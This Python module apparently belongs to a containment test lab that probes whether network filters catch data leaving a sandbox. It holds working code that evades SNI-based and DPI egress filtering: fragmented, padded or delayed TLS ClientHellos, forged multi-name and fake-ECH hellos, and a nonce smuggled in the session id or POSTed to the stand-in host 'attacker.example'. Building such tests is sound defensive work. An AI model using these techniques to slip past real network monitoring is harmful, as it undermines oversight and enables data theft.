"""Attempts that play with the name a flow shows: TLS server names, and how the first message is cut, padded, delayed or disguised."""

from __future__ import annotations

import secrets
import socket
import ssl
import struct
import time

from containment.lab.world.attacks.task import Attempt, Technique, closing, trusting


def tls(attempt: Attempt) -> None:
    """Speak TLS with a server name, and send the nonce inside."""
    sni = attempt.option("sni")
    if sni:
        attempt.marks.append(sni.lower().rstrip("."))
    context = trusting()
    if attempt.option("version") == "1.2":
        context.maximum_version = ssl.TLSVersion.TLSv1_2
    if attempt.option("hello") == "big":
        context.set_alpn_protocols([f"h2-{index:03}-{'x' * 100}" for index in range(27)])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname=sni or None)
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        first = True
        while True:
            try:
                session.do_handshake()
                break
            except ssl.SSLWantReadError:
                data = outgoing.read()
                _send(handle, data, attempt.option("hello") if first else "")
                first = False
                incoming.write(_received(handle))
        _send(handle, outgoing.read(), "")
        host = attempt.option("host", sni or "attacker.example")
        path = attempt.option("path", "/")
        session.write(f"POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(attempt.nonce)}\r\n\r\n{attempt.nonce}".encode())
        _send(handle, outgoing.read(), "")


def _received(handle: socket.socket) -> bytes:
    data = handle.recv(65536)
    if not data:
        raise ConnectionError("closed")
    return data


def _send(handle: socket.socket, data: bytes, how: str) -> None:
    """Send a first message in pieces, in several records, or slowly; anything else as it is."""
    if how == "split":
        for index in range(len(data)):
            handle.sendall(data[index : index + 1])
    elif how == "records" and data[:1] == b"\x16":
        body = data[5:]
        pieces = [body[at : at + 40] for at in range(0, len(body), 40)]
        handle.sendall(b"".join(b"\x16\x03\x01" + struct.pack("!H", len(each)) + each for each in pieces))
    elif how == "slow":
        half = len(data) // 2
        handle.sendall(data[:half])
        time.sleep(3.5)
        handle.sendall(data[half:])
    else:
        handle.sendall(data)


def hello(attempt: Attempt) -> None:
    """Send a hand-made first message with the nonce in its session id, in the clear."""
    names = [name for name in attempt.option("sni").split("+") if name]
    attempt.marks += [name.lower().rstrip(".") for name in names]
    extensions = b""
    if names or attempt.option("form") == "empty":
        entries = b"".join(b"\0" + struct.pack("!H", len(name)) + name.encode("latin-1") for name in names)
        extensions += _extension(0, struct.pack("!H", len(entries)) + entries)
    if attempt.option("form") == "ech":
        extensions += _extension(
            0xFE0D, b"\0\0\x01\0\x01\x05" + struct.pack("!H", 32) + secrets.token_bytes(32) + b"\0\x40" + secrets.token_bytes(64)
        )
    extensions += _extension(43, b"\x02\x03\x04") + _extension(10, b"\0\x02\0\x1d") + _extension(13, b"\0\x02\x04\x03")
    extensions += _extension(51, b"\0\x24\0\x1d\0\x20" + secrets.token_bytes(32))
    session = attempt.nonce.encode()[:32]
    body = b"\x03\x03" + secrets.token_bytes(32) + bytes([len(session)]) + session + b"\0\x02\x13\x01\x01\0"
    body += struct.pack("!H", len(extensions)) + extensions
    message = b"\x01" + struct.pack("!I", len(body))[1:] + body
    record = b"\x16\x03\x01" + struct.pack("!H", len(message)) + message
    with closing(attempt.connect(attempt.number("port", 443))) as handle:
        handle.sendall(attempt.option("before").encode() + record)


def _extension(number: int, data: bytes) -> bytes:
    return struct.pack("!HH", number, len(data)) + data


TECHNIQUES: dict[str, Technique] = {"tls": tls, "hello": hello}
